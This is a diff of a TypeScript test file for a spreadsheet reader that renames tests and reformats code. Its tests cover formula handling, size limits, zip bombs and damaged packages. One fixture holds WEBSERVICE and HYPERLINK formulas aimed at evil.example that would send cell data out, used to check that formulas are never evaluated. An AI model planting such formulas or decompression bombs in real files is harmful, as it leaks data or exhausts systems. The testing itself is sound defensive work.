@@ -34,8 +34,8 @@ async function problemOf(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {
   return outcome
 }
 
-describe('cells of an .xlsx', () => {
-  test('text is exact: inline, shared, rich, with line breaks, entities and characters beyond the first plane', async () => {
+describe('reading an .xlsx', () => {
+  test('returns exact text, whether inline, shared or rich, with line breaks and any characters', async () => {
     const [first] = await rowsOf(
       buildFixtureWorkbook({
         sharedTexts:
@@ -46,7 +46,7 @@ describe('cells of an .xlsx', () => {
     expect(first?.cells).toEqual([' H₂O & v⃗ \nm/s² ', 'bold and 𝛼', '00100001', 'x²', 'a\rb_x0041_', '😀'])
   })
 
-  test('numbers, booleans and errors have their types; blanks are null and end a row', async () => {
+  test('returns numbers, booleans and errors by type and blanks as null', async () => {
     const [first] = await rowsOf(
       buildFixtureWorkbook({
         rows: '<row r="3"><c r="A3"><v>30010001</v></c><c r="B3"><v>1.5E-3</v></c><c r="C3" t="b"><v>1</v></c><c r="D3" t="e"><v>#N/A</v></c><c r="E3" t="inlineStr"><is><t> \n </t></is></c><c r="F3" s="0"/><c r="G3"><v>1000000000000000</v></c><c r="H3"/><c r="I3" t="inlineStr"><is><t></t></is></c></row>',
@@ -57,7 +57,7 @@ describe('cells of an .xlsx', () => {
     expect(first?.cells.map(figureText)).toEqual(['30010001', '0.0015', 'TRUE', '#N/A', '', '', '1000000000000000'])
   })
 
-  test('a figure is printed in full, without an exponent, and with the 15 digits of Excel', () => {
+  test('prints figures in full, without an exponent and with the 15 digits of Excel', () => {
     expect([1e21, -5, 0.1 + 0.2, 1.1000000000000001, 123456789012345].map(figureText)).toEqual([
       '1000000000000000000000',
       '-5',
@@ -75,7 +75,7 @@ describe('cells of an .xlsx', () => {
     [false, 61, '01/03/1900 12:00 am'],
     [false, 1, '01/01/1900 12:00 am'],
     [true, 0, '01/01/1904 12:00 am'],
-  ])('a date cell is the instant of its wall time in Asia/Kolkata (1904: %s, %s)', async (date1904, serial, shown) => {
+  ])('returns a date as the instant of its wall time in Asia/Kolkata (1904: %s, %s)', async (date1904, serial, shown) => {
     const [first] = await rowsOf(
       buildFixtureWorkbook({
         date1904,
@@ -88,14 +88,14 @@ describe('cells of an .xlsx', () => {
     expect(Math.abs((cellDate(cell)?.getTime() ?? Number.NaN) % 1000)).toBe(0)
   })
 
-  test('only formats that show a day produce dates', async () => {
+  test('returns dates only for formats that show a day', async () => {
     const formats = ['0.00 "days"', '[Red]#,##0', '#,##0.00 [$USD]', '0.0E+00', 'd-mmm', '[h]:mm', 'yyyy']
     const rows = `<row r="1">${formats.map((_, index) => `<c r="${columnLetters(index)}1" s="${index + 1}"><v>40000</v></c>`).join('')}</row>`
     const [first] = await rowsOf(buildFixtureWorkbook({ formats, rows }))
     expect(first?.cells.map((cell) => cellDate(cell) !== undefined)).toEqual([false, false, false, false, true, false, true])
   })
 
-  test('a date beyond the calendar is shown as a number', async () => {
+  test('returns a date beyond the calendar as a number', async () => {
     const [first] = await rowsOf(
       buildFixtureWorkbook({ formats: ['yyyy'], rows: '<row r="1"><c r="A1" s="1"><v>1e15</v></c></row>' }),
     )
@@ -103,42 +103,39 @@ describe('cells of an .xlsx', () => {
     expect(cellDate(first?.cells[0])).toBeUndefined()
   })
 
-  test.each(['', 'x'])(
-    'formulas are never evaluated: a cell is its stored result, else a problem (prefix "%s")',
-    async (prefix) => {
-      const of = prefix === '' ? '' : 'x:'
-      const cell = (ref: string, content: string, type = ''): string => `<${of}c r="${ref}"${type}>${content}</${of}c>`
-      const [first] = await rowsOf(
-        buildFixtureWorkbook({
-          ...(prefix === '' ? {} : { prefix }),
-          rows: `<${of}row r="1">${[
-            cell('A1', `<${of}f>1+1</${of}f><${of}v>2</${of}v>`),
-            cell('B1', `<${of}f>"a"&amp;A1</${of}f>`),
-            cell('C1', `<${of}f>WEBSERVICE("https://evil.example/")</${of}f><${of}v></${of}v>`, ' t="str"'),
-            cell('D1', `<${of}f t="shared" si="0"/><${of}v>7</${of}v>`),
-            cell('E1', `<${of}is><${of}t>=1+1</${of}t></${of}is>`, ' t="inlineStr"'),
-            cell(
-              'F1',
-              `<${of}f>HYPERLINK("https://content.example/a?b=1&amp;c=2","Open")</${of}f><${of}v>Open</${of}v>`,
-              ' t="str"',
-            ),
-            cell('G1', `<${of}f>HYPERLINK("https://evil.example/?"&amp;A1,"Open")</${of}f><${of}v>Open</${of}v>`, ' t="str"'),
-          ].join('')}</${of}row>`,
-        }),
-      )
-      expect(first?.cells).toEqual([
-        2,
-        { error: '', formula: '="a"&A1' },
-        // The stored result is an empty text.
-        null,
-        7,
-        '=1+1',
-        'Open',
-        'Open',
-      ])
-      expect([...(first?.links ?? [])]).toEqual([[5, 'https://content.example/a?b=1&c=2']])
-    },
-  )
+  test.each(['', 'x'])('returns stored results of formulas without evaluating them (prefix "%s")', async (prefix) => {
+    const of = prefix === '' ? '' : 'x:'
+    const cell = (ref: string, content: string, type = ''): string => `<${of}c r="${ref}"${type}>${content}</${of}c>`
+    const [first] = await rowsOf(
+      buildFixtureWorkbook({
+        ...(prefix === '' ? {} : { prefix }),
+        rows: `<${of}row r="1">${[
+          cell('A1', `<${of}f>1+1</${of}f><${of}v>2</${of}v>`),
+          cell('B1', `<${of}f>"a"&amp;A1</${of}f>`),
+          cell('C1', `<${of}f>WEBSERVICE("https://evil.example/")</${of}f><${of}v></${of}v>`, ' t="str"'),
+          cell('D1', `<${of}f t="shared" si="0"/><${of}v>7</${of}v>`),
+          cell('E1', `<${of}is><${of}t>=1+1</${of}t></${of}is>`, ' t="inlineStr"'),
+          cell(
+            'F1',
+            `<${of}f>HYPERLINK("https://content.example/a?b=1&amp;c=2","Open")</${of}f><${of}v>Open</${of}v>`,
+            ' t="str"',
+          ),
+          cell('G1', `<${of}f>HYPERLINK("https://evil.example/?"&amp;A1,"Open")</${of}f><${of}v>Open</${of}v>`, ' t="str"'),
+        ].join('')}</${of}row>`,
+      }),
+    )
+    expect(first?.cells).toEqual([
+      2,
+      { error: '', formula: '="a"&A1' },
+      // The stored result is an empty text.
+      null,
+      7,
+      '=1+1',
+      'Open',
+      'Open',
+    ])
+    expect([...(first?.links ?? [])]).toEqual([[5, 'https://content.example/a?b=1&c=2']])
+  })
 
   test('finds formulas and links wherever a long sheet is split into chunks', async () => {
     const count = 30_000
@@ -158,30 +155,27 @@ describe('cells of an .xlsx', () => {
     expect(wrong).toEqual([])
   })
 
-  test.each(['', 'x:'])(
-    'finds shared texts wherever a long sheet and a long table are split into chunks (prefix "%s")',
-    async (of) => {
-      const count = 40_000
-      const textAt = (index: number): string => `№ ${index} ${'é⃗'.repeat(index % 40)}\n&<`
-      const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
-      const sharedTexts = Array.from(
-        { length: count },
-        (_, index) => `<si><t xml:space="preserve">${escaped(textAt(index))}</t></si>`,
-      ).join('')
-      const rows = Array.from({ length: count }, (_, index) => {
-        const row = index + 1
-        const pointer = index % 2 === 0 ? `r="A${row}" s="0" t="s"` : `t='s' r='A${row}'`
-        return `<${of}row r="${row}"><${of}c ${pointer}><${of}v>${index}</${of}v></${of}c><${of}c r="B${row}"><${of}v>${index}</${of}v></${of}c><${of}c r="C${row}" t="str"><${of}v>${index}</${of}v></${of}c></${of}row>`
-      }).join('')
-      const found = await rowsOf(buildFixtureWorkbook({ rows, sharedTexts, ...(of === '' ? {} : { prefix: 'x' }) }))
-      expect(found).toHaveLength(count)
-      expect(
-        found.filter(({ cells }, index) => cells[0] !== textAt(index) || cells[1] !== index || cells[2] !== String(index)),
-      ).toEqual([])
-    },
-  )
+  test.each(['', 'x:'])('finds shared texts wherever a long sheet and its table are split (prefix "%s")', async (of) => {
+    const count = 40_000
+    const textAt = (index: number): string => `№ ${index} ${'é⃗'.repeat(index % 40)}\n&<`
+    const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
+    const sharedTexts = Array.from(
+      { length: count },
+      (_, index) => `<si><t xml:space="preserve">${escaped(textAt(index))}</t></si>`,
+    ).join('')
+    const rows = Array.from({ length: count }, (_, index) => {
+      const row = index + 1
+      const pointer = index % 2 === 0 ? `r="A${row}" s="0" t="s"` : `t='s' r='A${row}'`
+      return `<${of}row r="${row}"><${of}c ${pointer}><${of}v>${index}</${of}v></${of}c><${of}c r="B${row}"><${of}v>${index}</${of}v></${of}c><${of}c r="C${row}" t="str"><${of}v>${index}</${of}v></${of}c></${of}row>`
+    }).join('')
+    const found = await rowsOf(buildFixtureWorkbook({ rows, sharedTexts, ...(of === '' ? {} : { prefix: 'x' }) }))
+    expect(found).toHaveLength(count)
+    expect(
+      found.filter(({ cells }, index) => cells[0] !== textAt(index) || cells[1] !== index || cells[2] !== String(index)),
+    ).toEqual([])
+  })
 
-  test('reads the last row whatever its last cell looks like', async () => {
+  test('reaches the last row, whatever its last cell looks like', async () => {
     for (const cell of [
       '<c r="B2" s="0"/>',
       '<c r="B2"/>',
@@ -199,14 +193,14 @@ describe('cells of an .xlsx', () => {
     }
   })
 
-  test('the smallest cells that reference shared texts fit as well', async () => {
+  test('accepts many rows of the smallest cells that reference shared texts', async () => {
     const rows = `<row>${'<c t="s"><v>0</v></c>'.repeat(300)}</row>`.repeat(2000)
     const found = await rowsOf(buildFixtureWorkbook({ rows, sharedTexts: '<si><t>a</t></si>' }), { ratio: 10_000 })
     expect(found).toHaveLength(2000)
     expect(found.every(({ cells }) => cells.length === 300 && cells.every((cell) => cell === 'a'))).toBe(true)
   })
 
-  test('shared texts in every form: empty, rich, with CDATA, comments and line ends; an index out of range is blank', async () => {
+  test('returns shared texts in every form, and a blank for an index out of range', async () => {
     const sharedTexts = [
       '<si/>',
       '<si><t/></si>',
@@ -219,7 +213,7 @@ describe('cells of an .xlsx', () => {
     expect(first?.cells).toEqual([null, null, 'a<b>&amp;c', '1\n2\n3\r4', 'xy', null, 1])
   })
 
-  test('returns a hyperlink’s target where the text is not an address', async () => {
+  test('returns a hyperlink’s target when the text is not an address', async () => {
     const [first] = await rowsOf(
       buildFixtureWorkbook({
         rows: textRow(1, ['Open', 'https://content.example/2', 'https://shown.example', 'plain', 'r1', 'r2']),
@@ -249,7 +243,7 @@ describe('cells of an .xlsx', () => {
     ])
   })
 
-  test('rows have their sheet numbers, blank ones are omitted, and a merge over the whole sheet makes no rows', async () => {
+  test('returns rows with their sheet numbers, without blank rows or rows of a huge merge', async () => {
     const rows = await readAll(
       buildFixtureWorkbook({
         rows: `${textRow(1, ['a'])}<row r="2"/>${textRow(4, ['', ' '])}<row r="5"><c r="A5" s="0"/></row>${textRow(9, ['b'])}<row r="1048576"><c r="XFD1048576" s="0"/></row>`,
@@ -259,7 +253,7 @@ describe('cells of an .xlsx', () => {
     expect(rows).toEqual([{ row: 9, cells: ['b'] }])
   })
 
-  test('reads the first visible sheet, wherever its part is stored', async () => {
+  test('chooses the first visible sheet, wherever its part is stored', async () => {
     const parts = buildFixtureParts({ rows: textRow(1, ['hidden']) }).map((part) => {
       if (part.name === 'xl/workbook.xml')
         return {
@@ -285,7 +279,7 @@ describe('cells of an .xlsx', () => {
     ])
   })
 
-  test('reading can be ended early', async () => {
+  test('can be ended early', async () => {
     const bytes = buildFixtureWorkbook({
       rows: Array.from({ length: 20_000 }, (_, index) => textRow(index + 1, ['a', 'b', 'c'])).join(''),
     })
@@ -315,7 +309,7 @@ describe('an .xls', () => {
     return writeBook(book, { type: 'buffer', bookType: 'biff8' }) as Uint8Array
   }
 
-  test.each([false, true])('returns the same types of cells (1904: %s)', async (date1904) => {
+  test.each([false, true])('returns the same types of cells as an .xlsx (1904: %s)', async (date1904) => {
     const rows = await rowsOf(legacy(date1904))
     expect(rows.map(({ row }) => row)).toEqual([1, 2, 5])
     const [, second] = rows
@@ -325,12 +319,12 @@ describe('an .xls', () => {
     expect([...(second?.links ?? [])]).toEqual([[3, 'https://content.example/1']])
   })
 
-  test('refuses a damaged one', async () => {
+  test('is refused when it is damaged', async () => {
     expect((await problemOf(legacy().subarray(0, 600))).code).toBe('DAMAGED')
   })
 })
 
-describe('limits', () => {
+describe('limits of a workbook', () => {
   test.each<[string, Partial<WorkbookLimits>, string, string]>([
     [textRow(1, ['a']) + textRow(2, ['b']) + textRow(3, ['c']), { rows: 1 }, 'TOO_MANY_ROWS', ''],
     [textRow(1, ['a', 'b', 'c']), { columns: 2 }, 'TOO_MANY_COLUMNS', 'row 1'],
@@ -339,13 +333,13 @@ describe('limits', () => {
     [textRow(1, ['name']), { sheets: 0 }, 'TOO_MANY_SHEETS', ''],
     [textRow(1, ['name']), { entries: 3 }, 'UNPACKS_TOO_LARGE', ''],
     [textRow(1, ['name']), { inflatedBytes: 300 }, 'UNPACKS_TOO_LARGE', ''],
-  ])('%# is refused with its limit', async (rows, changed, code, path) => {
+  ])('refuse case %# with the code of its limit', async (rows, changed, code, path) => {
     const problem = await problemOf(buildFixtureWorkbook({ rows }), changed)
     expect([problem.code, problem.issues[0]?.path ?? '']).toEqual([code, path])
     expect(problem.message).not.toMatch(/[{}]/)
   })
 
-  test('reads a workbook exactly at the limits', async () => {
+  test('allow a workbook exactly at them', async () => {
     const rows = textRow(1, ['a', 'b']) + textRow(2, ['four', 'b'])
     expect(await readAll(buildFixtureWorkbook({ rows }), { rows: 1, columns: 2, cellCharacters: 4 })).toHaveLength(1)
   })
@@ -354,7 +348,7 @@ describe('limits', () => {
   const noise = (bytes: number): string => randomBytes(bytes / 2).toString('hex')
 
   test.each(['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', '_rels/.rels', 'xl/styles.xml'])(
-    '%s is read whole, so more than 16 MB of it are refused',
+    'refuse more than 16 MB of %s, which is read as a whole',
     async (name) => {
       const parts = buildFixtureParts({ rows: textRow(1, ['a']) })
       const large = parts.map((part) =>
@@ -364,7 +358,7 @@ describe('limits', () => {
     },
   )
 
-  test('the targets of links may be longer together', async () => {
+  test('allow longer link targets in total', async () => {
     const links = Array.from({ length: 6_000 }, (_, at) => `https://content.example/${at}/${noise(3_000)}`)
     const [first] = await rowsOf(
       buildFixtureWorkbook({
@@ -387,12 +381,12 @@ describe('limits', () => {
     ['a column without measure', '<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>', 'DAMAGED'],
     ['merged cells', textRow(1, ['a']), 'TOO_MUCH_MEMORY', '<mergeCell ref="A1:XFD1048576"/>'.repeat(3_000_000)],
     ['links', textRow(1, ['a']), 'TOO_MUCH_MEMORY', '<hyperlink ref="A1" r:id="rId1"/>'.repeat(3_000_000)],
-  ])('endless markup is refused: %s', async (_, rows, code, after = '') => {
+  ])('refuse endless markup: %s', async (_, rows, code, after = '') => {
     const bytes = buildFixtureWorkbook({ rows, after, links: ['https://content.example/'] })
     expect((await problemOf(bytes, { ratio: 100_000 })).code).toBe(code)
   })
 
-  test('sheets that share a part are one sheet', async () => {
+  test('count sheets that share a part as one sheet', async () => {
     const sheets = (count: number): Buffer =>
       buildZip(
         buildFixtureParts({ rows: textRow(1, ['a']) }).map((part) =>
@@ -411,23 +405,18 @@ describe('limits', () => {
     expect((await problemOf(sheets(500_000), { ratio: 100_000 })).code).toBe('UNPACKS_TOO_LARGE')
   })
 
-  test.each(['<!--', '<?a ', '<a '])(
-    'markup that is opened a million times and never closed is scanned once: %s',
-    async (open) => {
-      for (const name of ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'docProps/core.xml', 'xl/sharedStrings.xml']) {
-        const parts = [
-          ...buildFixtureParts({ rows: textRow(1, ['a']), sharedTexts: '' }),
-          { name: 'docProps/core.xml', content: '' },
-        ]
-        const opened = parts.map((part) => (part.name === name ? { ...part, content: `${open.repeat(1_000_000)}<a/>` } : part))
-        await rowsOf(buildZip(opened), { ratio: 100_000 }).catch((error: unknown) =>
-          expect(error).toBeInstanceOf(WorkbookProblem),
-        )
-      }
-    },
-  )
+  test.each(['<!--', '<?a ', '<a '])('bound the scan of a million unclosed openings %s', async (open) => {
+    for (const name of ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'docProps/core.xml', 'xl/sharedStrings.xml']) {
+      const parts = [
+        ...buildFixtureParts({ rows: textRow(1, ['a']), sharedTexts: '' }),
+        { name: 'docProps/core.xml', content: '' },
+      ]
+      const opened = parts.map((part) => (part.name === name ? { ...part, content: `${open.repeat(1_000_000)}<a/>` } : part))
+      await rowsOf(buildZip(opened), { ratio: 100_000 }).catch((error: unknown) => expect(error).toBeInstanceOf(WorkbookProblem))
+    }
+  })
 
-  test('a text that opens many comments is scanned once', async () => {
+  test('bound the scan of a text that opens many comments', async () => {
     for (const open of ['<!--', '<![CDATA[', '<rPh>']) {
       const sharedTexts = `<si><t>a</t>${open.repeat(500_000)}</si>`
       const rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
@@ -435,7 +424,7 @@ describe('limits', () => {
     }
   })
 
-  test('refuses shared texts beyond their limit before they unpack', async () => {
+  test('refuse shared texts beyond their limit before they are unpacked', async () => {
     const bytes = buildFixtureWorkbook({
       sharedTexts: '<si><t>a</t></si>',
       rows: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
@@ -444,7 +433,7 @@ describe('limits', () => {
   })
 })
 
-describe('hostile and damaged packages', () => {
+describe('a hostile or damaged package', () => {
   const plain = { rows: textRow(1, ['a']) }
   const bomb = Buffer.alloc(3_000_000, 'a')
 
@@ -524,11 +513,11 @@ describe('hostile and damaged packages', () => {
     ['rows out of order', buildFixtureWorkbook({ rows: textRow(2, ['a']) + textRow(1, ['b']) }), 'DAMAGED'],
     ['a row that is no number', buildFixtureWorkbook({ rows: '<row r="x"><c t="b"><v>1</v></c></row>' }), 'DAMAGED'],
     ['a sheet that is missing', buildZip(buildFixtureParts(plain).filter(({ name }) => !name.endsWith('sheet1.xml'))), 'DAMAGED'],
-  ])('%s is refused', async (_, bytes, code) => {
+  ])('with %s is refused', async (_, bytes, code) => {
     expect((await problemOf(bytes)).code).toBe(code)
   })
 
-  test('a false size does not let a bomb unpack', async () => {
+  test('with a false size does not unpack a bomb', async () => {
     const parts = buildFixtureParts(plain).map((part) =>
       part.name.endsWith('sheet1.xml')
         ? { ...part, content: `${String(part.content)}${' '.repeat(50_000_000)}`, size: 900 }
@@ -540,7 +529,7 @@ describe('hostile and damaged packages', () => {
     expect(process.memoryUsage().rss - before).toBeLessThan(40_000_000)
   })
 
-  test('changed bytes anywhere in a package do not crash the check', () => {
+  test('with changed bytes anywhere does not crash the check', () => {
     const bytes = buildFixtureWorkbook(plain)
     for (let at = 4; at < bytes.length; at++) {
       const changed = Buffer.from(bytes)
@@ -555,8 +544,8 @@ describe('hostile and damaged packages', () => {
   })
 })
 
-describe('the header', () => {
-  test('recognises names by their key and preserves their spelling', () => {
+describe('the header of a sheet', () => {
+  test('has its names recognised by key and its spelling preserved', () => {
     expect(['Question ID', 'question_id', ' question-id\u200b', 'QUESTION\nID'].map(headerKey)).toEqual(
       Array(4).fill('questionid'),
     )
@@ -567,7 +556,7 @@ describe('the header', () => {
     ])
   })
 
-  test('names the columns of repeated names and errors', () => {
+  test('is refused with the columns of repeated names and errors', () => {
     const refused = (): unknown => readHeader(['subject', 'Chapter ', 'subject', 'chapter', { error: '#REF!' }])
     expect(refused).toThrow(WorkbookProblem)
     try {
@@ -581,7 +570,7 @@ describe('the header', () => {
     }
   })
 
-  test('refuses values in unnamed columns after the last row', async () => {
+  test('is refused after the last row when unnamed columns have values', async () => {
     const row = (at: number, cells: readonly (string | null)[]): string =>
       `<row r="${at}">${cells.map((cell, column) => (cell === null ? '' : `<c r="${columnLetters(column)}${at}" t="inlineStr"><is><t>${cell}</t></is></c>`)).join('')}</row>`
     const bytes = buildFixtureWorkbook({
@@ -597,13 +586,13 @@ describe('the header', () => {
     expect(seen).toEqual([2, 3])
   })
 
-  test('refuses a sheet without a row with values, or without rows below the header', async () => {
+  test('is refused when the sheet is empty or has no rows below it', async () => {
     expect((await problemOf(buildFixtureWorkbook({ rows: '' }))).code).toBe('NO_HEADER')
     expect((await problemOf(buildFixtureWorkbook({ rows: textRow(1, ['a']) }))).code).toBe('NO_ROWS')
   })
 })
 
-test('converts column indexes to letters and back', () => {
+test('columnLetters and cellPosition convert between column indexes and letters', () => {
   expect([0, 25, 26, 701, 702, 16_383].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD'])
   expect([cellPosition('XFD1048576'), cellPosition('$B$2'), cellPosition('2B')]).toEqual([
     { column: 16_383, row: 1_048_576 },
@@ -612,6 +601,6 @@ test('converts column indexes to letters and back', () => {
   ])
 })
 
-test('workbook names end in .xlsx or .xls', () => {
+test('isWorkbookName accepts only names that end in .xlsx or .xls', () => {
   expect(['a.xlsx', 'A.XLS', 'a.xlsm', '.xlsx', 'a.xlsx.exe'].map(isWorkbookName)).toEqual([true, true, false, false, false])
 })
